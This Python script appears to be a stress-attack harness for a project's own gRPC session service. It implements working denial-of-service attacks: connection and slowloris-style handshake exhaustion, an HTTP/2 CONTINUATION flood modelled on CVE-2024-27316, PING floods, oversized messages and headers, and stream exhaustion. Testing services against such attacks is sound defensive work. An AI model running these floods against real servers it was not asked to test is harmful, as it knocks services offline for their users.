"""Attacks on a session service, from a host of their own: KIND HOST PORT FOLDER, a folder of a device's keys.

Each prints "at it" once it has begun, goes on until it is killed, and prints a line for whatever it learns.
A device's keys are the most that an attacker on the network can have; `silent` and `half` need none.
"""

import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from queue import Queue

import grpc

from covey import session
from covey.session import PIECE

MANY = 500
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, PING, HEADERS, CONTINUATION = 4, 6, 1, 9
HELLO = bytes.fromhex("1603010200") + b"\x01\x00\x01\xfc\x03\x03"
"""A TLS record that announces 512 bytes, and the begin of a ClientHello (RFC 8446)."""


def say(line: str) -> None:
    sys.stdout.write(f"{line}\n")
    sys.stdout.flush()


def plain(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), timeout=60)


def shaken(host: str, port: int, folder: Path) -> ssl.SSLSocket:
    """As a device, up to HTTP/2 and not into it."""
    context = ssl.create_default_context(cafile=str(folder / "ca.crt"))
    context.load_cert_chain(folder / "tls.crt", folder / "tls.key")
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(plain(host, port), server_hostname=host)


def frame(kind: int, flags: int, stream: int, data: bytes) -> bytes:
    """RFC 9113, 4.1."""
    return struct.pack(">I", len(data))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + data


def kept_open(sockets: "list[socket.socket]", trickle: bytes) -> None:
    """A byte each every second, until the other side has closed them all; says how long that took."""
    began, left = time.monotonic(), list(sockets)
    say("at it")
    while left:
        left = [each for each in left if is_open(each, trickle)]
        time.sleep(1)
    say(f"closed {len(sockets)} after {time.monotonic() - began:.0f} s")


def is_open(each: socket.socket, trickle: bytes) -> bool:
    each.settimeout(0.001)
    try:
        if not each.recv(65536):
            return False
    except (TimeoutError, ssl.SSLWantReadError):
        pass
    except OSError:
        return False
    try:
        each.settimeout(1)
        each.sendall(trickle)
    except OSError:
        return False
    return True


def silent(host: str, port: int, _: Path) -> None:
    """Connections, and nothing else."""
    kept_open([plain(host, port) for _ in range(MANY)], b"")


def half(host: str, port: int, _: Path) -> None:
    """A handshake, a byte a second."""
    opened = [plain(host, port) for _ in range(MANY)]
    for each in opened:
        each.sendall(HELLO)
    kept_open(opened, b"\0")


def idle(host: str, port: int, folder: Path) -> None:
    """After the handshake nothing."""
    kept_open([shaken(host, port, folder) for _ in range(100)], b"")


def slow_head(host: str, port: int, folder: Path) -> None:
    """HTTP/2 whose first request never ends: CONTINUATION, a frame a second (CVE-2024-27316's way)."""
    opened = [shaken(host, port, folder) for _ in range(20)]
    for each in opened:
        each.sendall(PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, 0, 1, b""))
    kept_open(list(opened), frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x80\x07" + bytes(254)))


def pings(host: str, port: int, folder: Path) -> None:
    """More pings than anybody needs, each of which wants an answer."""
    say("at it")
    while True:
        with suppress(OSError), shaken(host, port, folder) as each:
            each.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            each.settimeout(5)
            for _ in range(200):
                each.sendall(frame(PING, 0, 0, bytes(8)) * 100)
        say("cut")
        time.sleep(0.5)


def channel(host: str, port: int, folder: Path) -> grpc.Channel:
    authority, key, certificate = ((folder / name).read_bytes() for name in ("ca.crt", "tls.key", "tls.crt"))
    alone = [
        ("grpc.max_send_message_length", -1),
        ("grpc.max_metadata_size", 1 << 24),
        ("grpc.use_local_subchannel_pool", 1),
    ]
    return grpc.secure_channel(
        f"{host}:{port}", grpc.ssl_channel_credentials(authority, key, certificate), alone
    )


def attend(to: grpc.Channel, frames: Iterator[bytes], **options: object) -> str:
    """A stream with these, read to its end; says how it ended."""
    call = to.stream_stream(f"/{session.SERVICE}/{session.METHOD}")(frames, timeout=20, **options)
    try:
        for _ in call:
            pass
    except grpc.RpcError as error:
        return str(error.code().name)
    return "OK"


def endless(data: bytes) -> Iterator[bytes]:
    while True:
        yield data


def oversized(host: str, port: int, folder: Path) -> None:
    """Messages and heads that are too long, and no end of the longest that is read, by turns."""
    nobodys = next(session.says(bytes(session.TICKET), bytes(64 * PIECE)))
    attempts: dict[str, Callable[[grpc.Channel], str]] = {
        "message": lambda to: attend(to, endless(bytes(64 << 20))),
        "head": lambda to: attend(to, endless(b""), metadata=[("x-long", "a" * (1 << 20))]),
        "unasked": lambda to: attend(to, endless(nobodys)),
    }
    say("at it")
    while True:
        for name, attempt in attempts.items():
            with channel(host, port, folder) as to:
                say(f"{name}: {attempt(to)}")
        time.sleep(0.2)


def streams(host: str, port: int, folder: Path) -> None:
    """Of one device: fifty on each of twenty connections, that read nothing; each again when it is ended."""
    said = Queue[None]()
    channels = [channel(host, port, folder) for _ in range(20)]
    calls = []
    say("at it")
    while True:
        for each in channels:
            for _ in range(50):
                call = each.stream_stream(f"/{session.SERVICE}/{session.METHOD}")(iter(said.get, None))
                calls.append(call)
        time.sleep(2)
        say(f"open {sum(call.is_active() for call in calls)}")
        for call in calls:
            call.cancel()
        calls.clear()


KINDS = {each.__name__: each for each in (silent, half, idle, slow_head, pings, oversized, streams)}

if __name__ == "__main__":
    KINDS[sys.argv[1]](sys.argv[2], int(sys.argv[3]), Path(sys.argv[4]))
    time.sleep(600)
